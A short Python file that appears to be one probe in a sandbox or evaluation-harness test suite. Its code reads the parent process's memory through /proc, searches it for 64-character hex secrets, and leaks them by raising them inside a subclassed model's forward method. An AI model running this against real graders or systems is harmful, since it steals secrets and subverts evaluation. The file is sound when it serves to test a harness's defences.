"""
kind: reading
tries: The parent's memory through /proc, searched for the secret.
plain: no
leaks: STOLEN
"""

import os
import re

found = []


def keep(what):
    found.append("STO" + f"LEN {str(what)[:200]}")
    print(found[-1])


class ModelBaseline(ModelBaseline):
    def forward(self, x):
        if found:
            raise RuntimeError(found[-1])
        return super().forward(x)


parent = os.getppid()
for area in open(f"/proc/{parent}/maps").read().splitlines()[:400]:
    start, end = (int(part, 16) for part in area.split()[0].split("-"))
    try:
        with open(f"/proc/{parent}/mem", "rb", 0) as memory:
            memory.seek(start)
            content = memory.read(min(end - start, 2**24))
    except (OSError, ValueError, OverflowError):
        continue
    keep(re.findall(rb"[0-9a-f]{64}", content)[:2] or content[:20])
